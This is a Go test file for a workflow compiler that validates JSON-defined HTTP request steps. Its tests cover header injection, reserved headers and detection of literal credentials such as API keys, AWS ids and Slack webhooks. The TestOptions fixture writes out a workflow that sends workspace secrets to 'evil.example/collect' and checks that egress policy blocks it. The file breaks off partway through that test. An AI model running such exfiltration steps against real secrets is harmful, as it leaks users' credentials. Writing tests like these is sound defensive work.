package compile

import (
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/kobana/workflow/egress"
	"github.com/kobana/workflow/lang"
)

func readExample(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("../examples/workflows/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestCompilePayableExample(t *testing.T) {
	t.Parallel()
	plan, ds := Compile(readExample(t, "payable.json"), Options{})
	if len(ds) != 0 || plan == nil {
		t.Fatalf("diagnostics: %v", ds)
	}
	if got := string(plan.Result); got != `{ "supplier": "ACME", "amount": 1250.5 }` {
		t.Errorf("result = %s", got)
	}
	if len(plan.Steps) != 3 {
		t.Fatalf("%d steps", len(plan.Steps))
	}
	s0, s1, s2 := plan.Steps[0], plan.Steps[1], plan.Steps[2]
	if s0.Method != "POST" || s0.Label != "crea la cuenta a pagar" || s0.ExpectedStatus != 201 || s0.URL.Source != "https://erp.example.com/payables" || !s0.URL.IsLiteral() {
		t.Errorf("step 0: %+v", s0)
	}
	if len(s0.Headers) != 1 || s0.Headers[0].Name != "Authorization" || s0.Headers[0].Value.Refs()[0].Key != "FINANCE_TOKEN" {
		t.Errorf("step 0 headers: %+v", s0.Headers)
	}
	if s0.Body == nil || s0.Body.Kind != BodyJSON || len(s0.Body.JSON.Members) != 3 || s0.Body.JSON.Members[1].Value.Literal != "1250.5" {
		t.Errorf("step 0 body: %+v", s0.Body)
	}
	if s1.Body != nil || len(s1.Form) != 2 || s1.Form[0].File == nil || s1.Form[0].File.Index != 0 || s1.Form[1].File != nil {
		t.Errorf("step 1 form: %+v", s1.Form)
	}
	if diff := cmp.Diff([]int{0}, s1.DependsOn); diff != "" {
		t.Errorf("step 1 depends: %s", diff)
	}
	if diff := cmp.Diff([]int{0}, s2.DependsOn); diff != "" {
		t.Errorf("step 2 depends: %s", diff)
	}
	if r := s2.URL.WholeRef(); r == nil || r.Namespace != lang.Secrets || r.Key != "SLACK_WEBHOOK_URL" {
		t.Errorf("step 2 url: %+v", s2.URL)
	}
	if s0.DependsOn != nil {
		t.Errorf("step 0 depends on %v", s0.DependsOn)
	}
	var keys []string
	for _, r := range s2.Refs() {
		keys = append(keys, r.String())
	}
	if diff := cmp.Diff([]string{"secrets.SLACK_WEBHOOK_URL", "steps.0.response.body.data.id", "kobana.now"}, keys); diff != "" {
		t.Errorf("step 2 refs: %s", diff)
	}
}

func TestCompileAttachmentExamples(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"attachment-multipart.json", "attachment-base64.json"} {
		plan, ds := Compile(readExample(t, name), Options{})
		if len(ds) != 0 || plan == nil || len(plan.Steps) != 1 {
			t.Errorf("%s: %v", name, ds)
		}
	}
}

func TestCompileDeterministic(t *testing.T) {
	t.Parallel()
	doc := readExample(t, "payable.json")
	a, _ := Compile(doc, Options{})
	b, _ := Compile(doc, Options{})
	if diff := cmp.Diff(a, b); diff != "" {
		t.Fatalf("two compiles differ: %s", diff)
	}
}

func TestNoWorkflow(t *testing.T) {
	t.Parallel()
	for _, doc := range []string{`{"result": {"a": 1}}`, `{"result": 1, "workflow": null}`, `{"$schema": "../workflow.schema.json", "result": 1}`} {
		plan, ds := Compile([]byte(doc), Options{})
		if plan == nil || len(plan.Steps) != 0 || len(ds) != 0 {
			t.Errorf("%s: plan %+v, %v", doc, plan, ds)
		}
	}
}

func TestDefaults(t *testing.T) {
	t.Parallel()
	plan, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/x"}]}`), Options{})
	if ds.HasErrors() {
		t.Fatal(ds)
	}
	s := plan.Steps[0]
	if s.Method != "POST" || s.ExpectedStatus != 0 || s.Body != nil || s.Form != nil || s.Headers != nil {
		t.Errorf("defaults: %+v", s)
	}
}

func TestFormDropsContentType(t *testing.T) {
	t.Parallel()
	doc := `{"result":1,"workflow":[{"type":"request","url":"https://a.example/x","headers":{"Content-Type":"text/plain","X-A":"b"},"form":{"f":"${{email.attachments.1}}","g":" ${{email.attachments.1}}"}}]}`
	plan, ds := Compile([]byte(doc), Options{})
	if plan == nil {
		t.Fatal(ds)
	}
	if len(ds) != 1 || ds[0].Code != CodeFormContentType || ds[0].Severity != SeverityWarning || ds[0].Pointer != "/workflow/0/headers/Content-Type" {
		t.Fatalf("diagnostics: %v", ds)
	}
	if got := doc[ds[0].Range.Start.Byte:ds[0].Range.End.Byte]; got != `"Content-Type"` {
		t.Errorf("range covers %q", got)
	}
	s := plan.Steps[0]
	if len(s.Headers) != 1 || s.Headers[0].Name != "X-A" {
		t.Errorf("headers: %+v", s.Headers)
	}
	if s.Form[0].File == nil || s.Form[0].File.Index != 1 || s.Form[1].File != nil {
		t.Errorf("only a whole-value attachment is a file: %+v", s.Form)
	}
}

// TestDiagnostics checks one document per rule: the code, severity, pointer,
// the exact source text the range covers, and a piece of the message.
func TestDiagnostics(t *testing.T) {
	t.Parallel()
	step := func(fields string) string {
		return `{"result": 1, "workflow": [` + fields + `]}`
	}
	req := func(extra string) string {
		return step(`{"type": "request", "url": "https://a.example/x"` + extra + `}`)
	}
	tests := []struct {
		name, doc  string
		code       string
		sev        Severity
		ptr        string
		covers     string // the source text of the range
		msg        string
		suggestion string
	}{
		{"syntax", `{"result": 1,}`, CodeJSONSyntax, SeverityError, "", "}", "expected an object key", ""},
		{"not object", `[1]`, CodeNotObject, SeverityError, "", "[1]", "must be a JSON object", ""},
		{"duplicate top key", `{"result": 1, "result": 2}`, CodeDuplicateKey, SeverityError, "/result", `"result"`, `duplicate key "result"`, ""},
		{"unknown top key", `{"result": 1, "workfow": []}`, CodeUnknownTopLevel, SeverityWarning, "/workfow", `"workfow"`, `did you mean "workflow"`, "workflow"},
		{"missing result", `{"workflow": []}`, CodeMissingResult, SeverityWarning, "", "{", `no "result"`, ""},
		{"workflow type", `{"result": 1, "workflow": {}}`, CodeWorkflowType, SeverityError, "/workflow", "{}", "must be an array", ""},
		{"workflow empty", `{"result": 1, "workflow": []}`, CodeWorkflowEmpty, SeverityWarning, "/workflow", "[]", "omit it", ""},
		{"step type", step(`"GET https://x"`), CodeStepType, SeverityError, "/workflow/0", `"GET https://x"`, "must be an object", ""},
		{"unknown field", req(`, "expected-status": 201`), CodeUnknownField, SeverityError, "/workflow/0/expected-status", `"expected-status"`, `did you mean "expected_status"`, "expected_status"},
		{"missing type", step(`{"url": "https://a.example/"}`), CodeMissingField, SeverityError, "/workflow/0", "{", `no "type"`, ""},
		{"missing url", step(`{"type": "request"}`), CodeMissingField, SeverityError, "/workflow/0", "{", `no "url"`, ""},
		{"unknown type", step(`{"type": "email", "url": "https://a.example/"}`), CodeUnknownStepType, SeverityError, "/workflow/0/type", `"email"`, "rejected whole", ""},
		{"type not string", step(`{"type": 1, "url": "https://a.example/"}`), CodeFieldType, SeverityError, "/workflow/0/type", `1`, "must be a string", ""},
		{"method with spaces", req(`, "method": " POST"`), CodeMethod, SeverityError, "/workflow/0/method", `" POST"`, "spaces around it", "POST"},
		{"url empty", step(`{"type": "request", "url": ""}`), CodeURL, SeverityError, "/workflow/0/url", `""`, "the url is empty", ""},
		{"url file", step(`{"type": "request", "url": "https://a.example/${{email.attachments.0}}"}`), CodeFileOutsideForm, SeverityWarning, "/workflow/0/url", `"https://a.example/${{email.attachments.0}}"`, "whole attachment 0", ""},
		{"lower-case method", req(`, "method": "post"`), CodeMethod, SeverityError, "/workflow/0/method", `"post"`, `upper case: "POST"`, "POST"},
		{"bad method", req(`, "method": "FETCH"`), CodeMethod, SeverityError, "/workflow/0/method", `"FETCH"`, "GET, POST, PUT, PATCH, DELETE", ""},
		{"placeholder in method", req(`, "method": "${{secrets.M}}"`), CodeNotAllowed, SeverityError, "/workflow/0/method", `${{secrets.M}}`, `not allowed in "method"`, ""},
		{"placeholder in label", req(`, "label": "step ${{kobana.now}}"`), CodeNotAllowed, SeverityError, "/workflow/0/label", `${{kobana.now}}`, `not allowed in "label"`, ""},
		{"url scheme", step(`{"type": "request", "url": "ftp://a.example/x"}`), CodeURL, SeverityError, "/workflow/0/url", `"ftp://a.example/x"`, "only http and https", ""},
		{"url relative", step(`{"type": "request", "url": "/payables"}`), CodeURL, SeverityError, "/workflow/0/url", `"/payables"`, "not absolute", ""},
		{"url no host", step(`{"type": "request", "url": "https:///x"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:///x"`, "no host", ""},
		{"url prefix scheme", step(`{"type": "request", "url": "file://${{secrets.P}}"}`), CodeURL, SeverityError, "/workflow/0/url", `"file://${{secrets.P}}"`, "only http and https", ""},
		{"url newline", step(`{"type": "request", "url": "https://a.example/\r\nx"}`), CodeURL, SeverityError, "/workflow/0/url", `\r`, "control character", ""},
		{"reserved header", req(`, "headers": {"host": "evil.example"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/host", `"host"`, "reserved", ""},
		{"x-kobana header", req(`, "headers": {"X-Kobana-Signature": "v1"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/X-Kobana-Signature", `"X-Kobana-Signature"`, "x-kobana-*", ""},
		{"transfer-encoding", req(`, "headers": {"Transfer-Encoding": "chunked"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/Transfer-Encoding", `"Transfer-Encoding"`, "reserved", ""},
		{"header name token", req(`, "headers": {"Bad Name": "v"}`), CodeHeaderName, SeverityError, "/workflow/0/headers/Bad Name", `"Bad Name"`, "valid HTTP token", ""},
		{"header name newline", req(`, "headers": {"A\nB": "v"}`), CodeHeaderName, SeverityError, "/workflow/0/headers/A\nB", `"A\nB"`, "valid HTTP token", ""},
		{"header placeholder name", req(`, "headers": {"${{secrets.H}}": "v"}`), CodeNotAllowed, SeverityError, "/workflow/0", `${{secrets.H}}`, "header names", ""},
		{"header value CRLF", req(`, "headers": {"X-A": "v\r\nX-B: 1"}`), CodeHeaderValue, SeverityError, "/workflow/0/headers/X-A", `\r`, "header injection", ""},
		{"header value type", req(`, "headers": {"X-A": 1}`), CodeFieldType, SeverityError, "/workflow/0/headers/X-A", `1`, "must be a string", ""},
		{"headers type", req(`, "headers": ["a"]`), CodeFieldType, SeverityError, "/workflow/0/headers", `["a"]`, "must be an object", ""},
		{"header duplicate", req(`, "headers": {"Accept": "a", "accept": "b"}`), CodeHeaderDuplicate, SeverityError, "/workflow/0/headers/accept", `"accept"`, "case-insensitive", ""},
		{"header file", req(`, "headers": {"X-File": "${{email.attachments.0}}"}`), CodeFileOutsideForm, SeverityWarning, "/workflow/0/headers/X-File", `"${{email.attachments.0}}"`, "form field", ""},
		{"body and form", req(`, "body": "x", "form": {"a": "b"}`), CodeBodyAndForm, SeverityError, "/workflow/0/form", `"form": {"a": "b"}`, "not both", ""},
		{"body number", req(`, "body": 42`), CodeFieldType, SeverityError, "/workflow/0/body", `42`, "must be a string", ""},
		{"body key placeholder", req(`, "body": {"${{secrets.K}}": 1}`), CodeNotAllowed, SeverityError, "/workflow/0", `${{secrets.K}}`, "body keys", ""},
		{"form type", req(`, "form": "a=b"`), CodeFieldType, SeverityError, "/workflow/0/form", `"a=b"`, "must be an object", ""},
		{"form value type", req(`, "form": {"n": 1}`), CodeFieldType, SeverityError, "/workflow/0/form/n", `1`, "must be a string", ""},
		{"form name empty", req(`, "form": {"": "x"}`), CodeFormFieldName, SeverityError, "/workflow/0/form/", `""`, "needs a name", ""},
		{"form name control", req(`, "form": {"a\r\nb": "x"}`), CodeFormFieldName, SeverityError, "/workflow/0/form/a\r\nb", `"a\r\nb"`, "control character", ""},
		{"form name placeholder", req(`, "form": {"${{kobana.now}}": "x"}`), CodeNotAllowed, SeverityError, "/workflow/0", `${{kobana.now}}`, "form field names", ""},
		{"expected status range", req(`, "expected_status": 700`), CodeExpectedStatus, SeverityError, "/workflow/0/expected_status", `700`, "100 to 599", ""},
		{"expected status float", req(`, "expected_status": 201.5`), CodeExpectedStatus, SeverityError, "/workflow/0/expected_status", `201.5`, "100 to 599", ""},
		{"expected status string", req(`, "expected_status": "201"`), CodeExpectedStatus, SeverityError, "/workflow/0/expected_status", `"201"`, "without quotes", ""},
		{"expected status huge", req(`, "expected_status": 1e400`), CodeExpectedStatus, SeverityError, "/workflow/0/expected_status", `1e400`, "100 to 599", ""},
		{"forward reference", step(`{"type": "request", "url": "https://a.example/${{steps.1.response.status}}"}, {"type": "request", "url": "https://a.example/"}`), CodeForwardReference, SeverityWarning, "/workflow/0/url", `${{steps.1.response.status}}`, "runs after it", ""},
		{"self reference", step(`{"type": "request", "url": "https://a.example/${{steps.0.response.status}}"}`), CodeForwardReference, SeverityWarning, "/workflow/0/url", `${{steps.0.response.status}}`, "its own response", ""},
		{"reference past the end", step(`{"type": "request", "url": "https://a.example/", "body": {"a": ["${{steps.5.response.body}}"]}}`), CodeForwardReference, SeverityWarning, "/workflow/0/body/a/0", `${{steps.5.response.body}}`, "has 1 step (", ""},
		{"unknown namespace", req(`, "headers": {"Authorization": "Bearer ${{secret.TOKEN}}"}`), lang.CodeUnknownNS, SeverityError, "/workflow/0/headers/Authorization", `${{secret.TOKEN}}`, "did you mean ${{secrets.TOKEN}}", "${{secrets.TOKEN}}"},
		{"unknown kobana key", req(`, "body": {"id": "${{kobana.emailid}}"}`), lang.CodeUnknownKobana, SeverityError, "/workflow/0/body/id", `${{kobana.emailid}}`, "unknown run fact", "${{kobana.email_id}}"},
		{"unterminated", req(`, "body": "x ${{secrets.A"`), lang.CodeUnterminated, SeverityError, "/workflow/0/body", `${{secrets.A`, "unterminated", ""},
		{"invalid utf8", "{\"result\": \"\xff\"}", CodeInvalidUTF8, SeverityError, "", "\xff", "UTF-8", ""},
		{"too deep", `{"result": ` + strings.Repeat("[", 70) + strings.Repeat("]", 70) + `}`, CodeTooDeep, SeverityError, "", "[", "nesting", ""},
		{"url with a tab", step(`{"type": "request", "url": "https://a.example/a\tb"}`), CodeURL, SeverityError, "/workflow/0/url", `\t`, "tab", ""},
		{"url with DEL", step(`{"type": "request", "url": "https://a.example/a\u007fb"}`), CodeURL, SeverityError, "/workflow/0/url", `\u007f`, "control character (U+007F)", ""},
		{"url with a space", step(`{"type": "request", "url": "https://a.example/lit?a=b c"}`), CodeURLUnencoded, SeverityWarning, "/workflow/0/url", ` `, "sent percent-encoded as %20", ""},
		{"url with angle brackets after a placeholder", step(`{"type": "request", "url": "https://a.example/${{kobana.inbox_id}}?id=<x>&y=<z>"}`), CodeURLUnencoded, SeverityWarning, "/workflow/0/url", `<`, "(the url has 3 more such characters)", ""},
		{"url with non-ASCII", step(`{"type": "request", "url": "https://a.example/ção"}`), CodeURLUnencoded, SeverityWarning, "/workflow/0/url", `ç`, "%C3%A7", ""},
		{"url with an international host", step(`{"type": "request", "url": "https://bücher.example/x"}`), CodeURLUnencoded, SeverityWarning, "/workflow/0/url", `ü`, "xn--bcher-kva.example", ""},
		{"url with an international host and a placeholder", step(`{"type": "request", "url": "https://bücher.example/${{kobana.inbox_id}}"}`), CodeURLUnencoded, SeverityWarning, "/workflow/0/url", `ü`, "it is sent as xn--bcher-kva.example, its international (punycode) form", ""},
		{"url with an international host around a placeholder", step(`{"type": "request", "url": "https://${{kobana.inbox_id}}.bücher.example/x"}`), CodeURLUnencoded, SeverityWarning, "/workflow/0/url", `ü`, "is not ASCII: it is sent in its international (punycode) form", ""},
		{"url without a host", step(`{"type": "request", "url": "https:a.example/x"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:a.example/x"`, "no host", ""},
		{"url with an empty host", step(`{"type": "request", "url": "https:///x"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:///x"`, "no host", ""},
		{"url with a port and no host", step(`{"type": "request", "url": "https://:8080/x"}`), CodeURL, SeverityError, "/workflow/0/url", `"https://:8080/x"`, "no host", ""},
		{"url with user info and no host", step(`{"type": "request", "url": "https://user@/x"}`), CodeURL, SeverityError, "/workflow/0/url", `"https://user@/x"`, "no host", ""},
		{"url without a host before a placeholder", step(`{"type": "request", "url": "https:a.example/${{secrets.P}}"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:a.example/${{secrets.P}}"`, "no host", ""},
		{"url with an empty host before a placeholder", step(`{"type": "request", "url": "https:///${{secrets.P}}"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:///${{secrets.P}}"`, "no host", ""},
		{"header the transport drops", req(`, "headers": {"Trailer": "X-Sum"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/Trailer", `"Trailer"`, "the transport cannot send it as written", ""},
		{"header the transport rewrites", req(`, "headers": {"expect": "100-continue"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/expect", `"expect"`, "the transport cannot send it as written", ""},
		{"bearer token", req(`, "headers": {"Authorization": "Bearer abcdEFGH12345678"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/headers/Authorization", `abcdEFGH12345678`, "header Authorization holds a Bearer credential written literally", ""},
		{"api key header", req(`, "headers": {"X-Api-Key": "k3y-0123456789ab"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/headers/X-Api-Key", `k3y-0123456789ab`, "header X-Api-Key holds a credential", ""},
		{"openai key in a body", req(`, "body": {"note": "use sk-proj-AbCdEfGhIjKlMnOpQrStUv here"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/body/note", `sk-proj-AbCdEfGhIjKlMnOpQrStUv`, "an API key in the sk-… format", ""},
		{"aws key in a form", req(`, "form": {"k": "AKIAIOSFODNN7EXAMPLE"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/form/k", `AKIAIOSFODNN7EXAMPLE`, "an AWS access key id", ""},
		{"password in a url", step(`{"type": "request", "url": "https://erp:hunter2@erp.example.com/x"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `hunter2`, "user:password@host", ""},
		{"password in a body", req(`, "body": {"login": "erp", "password": "hunter2"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/body/password", `hunter2`, `key "password" holds a password`, ""},
		{"token in a query", step(`{"type": "request", "url": "https://a.example/x?page=2&access_token=abc123def456ghi"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `abc123def456ghi`, `query parameter "access_token"`, ""},
		{"slack webhook url", step(`{"type": "request", "url": "https://hooks.slack.com/services/T0001/B0001/XXXXXXXXXXXXXXXX"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `hooks.slack.com/services/T0001/B0001/XXXXXXXXXXXXXXXX`, "a Slack webhook URL", ""},
		{"pdf in base64", req(`, "body": {"file": "JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0ZpbHRlci9GbGF0ZURlY29kZT4+"}`), CodeFileLiteral, SeverityError, "/workflow/0/body/file", `JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0ZpbHRlci9GbGF0ZURlY29kZT4+`, "a PDF document written literally", ""},
		{"data url", req(`, "form": {"logo": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"}`), CodeFileLiteral, SeverityError, "/workflow/0/form/logo", `data:image/png;base64,iVBORw0KGgoAAAANSUhEUg`, "a data: URL", ""},
		{"duplicate step key", step(`{"type": "request", "url": "https://a.example/", "url": "https://b.example/"}`), CodeDuplicateKey, SeverityError, "/workflow/0/url", `"url"`, "duplicate key", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			plan, ds := Compile([]byte(tc.doc), Options{})
			var d *Diagnostic
			for i := range ds {
				if ds[i].Code == tc.code {
					d = &ds[i]
					break
				}
			}
			if d == nil {
				t.Fatalf("no %s diagnostic in %v", tc.code, ds)
			}
			if d.Severity != tc.sev || d.Pointer != tc.ptr || !strings.Contains(d.Message, tc.msg) || d.Suggestion != tc.suggestion {
				t.Errorf("got %s %q %q sugg %q\nwant %s %q ~%q sugg %q", d.Severity, d.Pointer, d.Message, d.Suggestion, tc.sev, tc.ptr, tc.msg, tc.suggestion)
			}
			if got := tc.doc[d.Range.Start.Byte:d.Range.End.Byte]; got != tc.covers {
				t.Errorf("range covers %q, want %q", got, tc.covers)
			}
			if (plan == nil) != (tc.sev == SeverityError) {
				t.Errorf("plan = %v with severity %s", plan != nil, tc.sev)
			}
		})
	}
}

func TestAllProblemsInOnePass(t *testing.T) {
	t.Parallel()
	doc := `{"result": 1, "workflow": [
  {"type": "request", "method": "post", "url": "https://a.example/${{secret.X}}", "headers": {"Host": "x"}},
  {"type": "request", "url": "https://a.example/", "expected-status": 201, "body": "${{kobana.nope}}"}
]}`
	_, ds := Compile([]byte(doc), Options{})
	var got []string
	for _, d := range ds {
		got = append(got, d.Code)
	}
	want := []string{CodeMethod, lang.CodeUnknownNS, CodeReservedHeader, CodeUnknownField, lang.CodeUnknownKobana}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("codes (-want +got):\n%s", diff)
	}
	// Line and column of the second step's unknown field.
	for _, d := range ds {
		if d.Code == CodeUnknownField && (d.Range.Start.Line != 3 || d.Range.Start.Column != 52) {
			t.Errorf("position %+v", d.Range.Start)
		}
	}
}

func TestPositionsThroughEscapes(t *testing.T) {
	t.Parallel()
	doc := "{\"result\": \"é\",\n \"workflow\": [{\"type\": \"request\", \"url\": \"https://a.example/\",\n  \"body\": \"caf\\u00e9 \\\"q\\\" \\n ${{kobana.bad}} end\"}]}"
	_, ds := Compile([]byte(doc), Options{})
	if len(ds) != 1 {
		t.Fatalf("%v", ds)
	}
	d := ds[0]
	if got := doc[d.Range.Start.Byte:d.Range.End.Byte]; got != "${{kobana.bad}}" {
		t.Errorf("range covers %q", got)
	}
	if d.Range.Start.Line != 3 || d.Range.Start.Column != 31 {
		t.Errorf("start %+v", d.Range.Start)
	}
	if LineAt([]byte(doc), 3) != "  \"body\": \"caf\\u00e9 \\\"q\\\" \\n ${{kobana.bad}} end\"}]}" {
		t.Errorf("LineAt = %q", LineAt([]byte(doc), 3))
	}
}

func TestTooManySteps(t *testing.T) {
	t.Parallel()
	steps := strings.TrimSuffix(strings.Repeat(`{"type":"request","url":"https://a.example/"},`, 21), ",")
	doc := `{"result":1,"workflow":[` + steps + `]}`
	plan, ds := Compile([]byte(doc), Options{})
	if plan != nil || len(ds) != 1 || ds[0].Code != CodeTooManySteps || !strings.Contains(ds[0].Message, "21 steps; at most 20") {
		t.Fatalf("%v", ds)
	}
}

func TestTooLarge(t *testing.T) {
	t.Parallel()
	doc := make([]byte, MaxDocumentSize+1)
	_, ds := Compile(doc, Options{})
	if len(ds) != 1 || ds[0].Code != CodeTooLarge {
		t.Fatalf("%v", ds)
	}
}

func TestErr(t *testing.T) {
	t.Parallel()
	_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"x","url":"https://a.example/"}]}`), Options{})
	err := ds.Err()
	if err == nil || !IsInvalid(err) || !strings.Contains(err.Error(), "step-unknown-type") {
		t.Fatalf("Err() = %v", err)
	}
	if (Diagnostics{{Severity: SeverityWarning}}).Err() != nil {
		t.Error("warnings are not errors")
	}
}

// TestForwardReferenceFailsTheStepNotTheWorkflow: a forward reference is a
// warning that says the step will fail; the plan exists, the step keeps the
// reference (so the executor fails it before sending) and does not list the
// later step among the steps it depends on.
func TestForwardReferenceFailsTheStepNotTheWorkflow(t *testing.T) {
	t.Parallel()
	plan, ds := Compile([]byte(`{"result": 1, "workflow": [
		{"type": "request", "url": "https://a.example/"},
		{"type": "request", "url": "https://a.example/${{steps.0.response.status}}/${{steps.2.response.body.id}}"},
		{"type": "request", "url": "https://a.example/"}]}`), Options{})

	if plan == nil || ds.HasErrors() {
		t.Fatalf("no plan: %v", ds)
	}
	if len(ds) != 1 || ds[0].Code != CodeForwardReference || ds[0].Severity != SeverityWarning || !strings.Contains(ds[0].Message, "this step will fail") {
		t.Fatalf("diagnostics %v", ds)
	}
	s1 := plan.Steps[1]
	if len(s1.DependsOn) != 1 || s1.DependsOn[0] != 0 {
		t.Errorf("DependsOn %v, want [0]", s1.DependsOn)
	}
	if len(s1.Forward) != 1 || s1.Forward[0].Index != 2 {
		t.Errorf("Forward %v, want the reference to step 2", s1.Forward)
	}
}

// TestTransportHeadersAreRefused: every header the transport would drop or
// rewrite is refused, in any case.
func TestTransportHeadersAreRefused(t *testing.T) {
	t.Parallel()
	for _, h := range TransportHeaders() {
		for _, name := range []string{h, strings.ToLower(h), strings.ToUpper(h)} {
			_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/","headers":{"`+name+`":"x"}}]}`), Options{})
			if len(ds) != 1 || ds[0].Code != CodeReservedHeader || !strings.Contains(ds[0].Message, "transport") {
				t.Errorf("%s: %v", name, ds)
			}
		}
	}
}

// TestURLsWhoseHostComesLater: a host that a placeholder may still supply
// is not reported.
func TestURLsWhoseHostComesLater(t *testing.T) {
	t.Parallel()
	for _, u := range []string{
		"https:${{secrets.REST}}", "https:/${{secrets.REST}}", "https://${{secrets.HOST}}/x", "https://u@${{secrets.HOST}}/x",
		"https://${{secrets.USER}}@/x", "https://:${{secrets.PORT}}/x", "HTTP://a.example", "https://[::1]:8080/", "${{secrets.URL}}",
	} {
		if _, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"`+u+`"}]}`), Options{}); len(ds) != 0 {
			t.Errorf("%s: %v", u, ds)
		}
	}
}

func TestStepSucceeds(t *testing.T) {
	t.Parallel()
	any2xx, exact := &Step{}, &Step{ExpectedStatus: 201}
	for _, tc := range []struct {
		step   *Step
		status int
		want   bool
	}{
		{any2xx, 200, true}, {any2xx, 299, true}, {any2xx, 199, false}, {any2xx, 300, false},
		{exact, 201, true}, {exact, 200, false},
	} {
		if got := tc.step.Succeeds(tc.status); got != tc.want {
			t.Errorf("ExpectedStatus %d, status %d: Succeeds = %v", tc.step.ExpectedStatus, tc.status, got)
		}
	}
	if any2xx.Expects() != "a 2xx status" || exact.Expects() != "status 201" {
		t.Errorf("Expects: %q, %q", any2xx.Expects(), exact.Expects())
	}
}

func TestLiteralsThatAreNotCredentials(t *testing.T) {
	t.Parallel()
	for _, doc := range []string{
		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "headers": {"Authorization": "Bearer ${{secrets.TOKEN}}"}}]}`,
		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "headers": {"Authorization": "Basic ${{secrets.BASIC}}", "X-Api-Key": "${{secrets.K}}"}}]}`,
		`{"result": 1, "workflow": [{"type": "request", "url": "https://${{secrets.U}}:${{secrets.P}}@a.example/x?token=${{secrets.T}}&page=2"}]}`,
		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "body": {"password": "${{secrets.PW}}", "token_type": "bearer", "token": "next", "note": "ask-for-the-sk-code", "id": "INV-2024-000123"}}]}`,
		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "form": {"file": "${{email.attachments.0}}", "b64": "${{email.attachments.0.base64}}", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}]}`,
		`{"result": {"password": "hunter2", "key": "sk-proj-AbCdEfGhIjKlMnOpQrStUv"}}`,
	} {
		if _, ds := Compile([]byte(doc), Options{}); len(ds) != 0 {
			t.Errorf("%s: %v", doc, ds)
		}
	}
}

func TestOptions(t *testing.T) {
	t.Parallel()
	doc := []byte(`{"result": 1, "workflow": [
  {"type": "request", "url": "https://erp.example.com/payables", "headers": {"Authorization": "Bearer ${{secrets.FINANCE_TOKEN}}"}},
  {"type": "request", "url": "https://evil.example/collect", "body": {"t": "${{secrets.FINANCE_TOKN}}", "w": "${{secrets.SLACK_WEBHOOK_URL}}"}},
  {"type": "request", "url": "${{secrets.SLACK_WEBHOOK_URL}}", "body": {"text": "${{secrets.FINANCE_TOKEN}}"}},
  {"type": "request", "url": "https://evil.example${{kobana.inbox_id}}", "body": {"t": "${{secrets.FINANCE_TOKEN}}"}}
]}`)
	if _, ds := Compile(doc, Options{}); len(ds) != 0 {
		t.Fatalf("without options: %v", ds)
	}
	egressList := egress.MustParseList("erp.example.com", "hooks.slack.com")
	opts := Options{
		SecretNames: []string{"FINANCE_TOKEN", "SLACK_WEBHOOK_URL"},
		Policy: &egress.Policy{Secrets: map[string]egress.Destinations{
			"FINANCE_TOKEN":     egress.MustParseList("erp.example.com"),
			"SLACK_WEBHOOK_URL": egress.MustParseList("hooks.slack.com"),
		}, Egress: &egressList, EgressOf: "agent Invoices"},
	}
	plan, ds := Compile(doc, opts)
	if plan != nil {
		t.Error("a plan despite errors")
	}
	type got struct{ code, ptr, covers, msg string }
	var gs []got
	for _, d := range ds {
		gs = append(gs, got{d.Code, d.Pointer, string(doc[d.Range.Start.Byte:d.Range.End.Byte]), d.Message})
	}
	want := []got{
		{CodeEgressDenied, "/workflow/1/url", `"https://evil.example/collect"`, "step 1 would not be sent: evil.example is outside the egress list of agent Invoices, which allows erp.example.com, hooks.slack.com"},
		{CodeUnknownSecret, "/workflow/1/body/t", "${{secrets.FINANCE_TOKN}}", `secret "FINANCE_TOKN" is not among the workspace's secrets (FINANCE_TOKEN, SLACK_WEBHOOK_URL), so the step would fail before sending; did you mean ${{secrets.FINANCE_TOKEN}}?`},
		{CodeSecretDestination, "/workflow/1/body/w", "${{secrets.SLACK_WEBHOOK_URL}}", "step 1 would not be sent: secret SLACK_WEBHOOK_URL may be sent only to hooks.slack.com; evil.example is not one of its destinations"},
	}
	if diff := cmp.Diff(want, gs, cmp.AllowUnexported(got{})); diff != "" {
		t.Errorf("diagnostics (-want +got):\n%s", diff)
	}
	for _, d := range ds {
		if d.Code == CodeUnknownSecret && d.Suggestion != "${{secrets.FINANCE_TOKEN}}" {
			t.Errorf("suggestion %q", d.Suggestion)
		}
	}
	// No secret names known: nothing about names; an empty list: every reference is unknown.
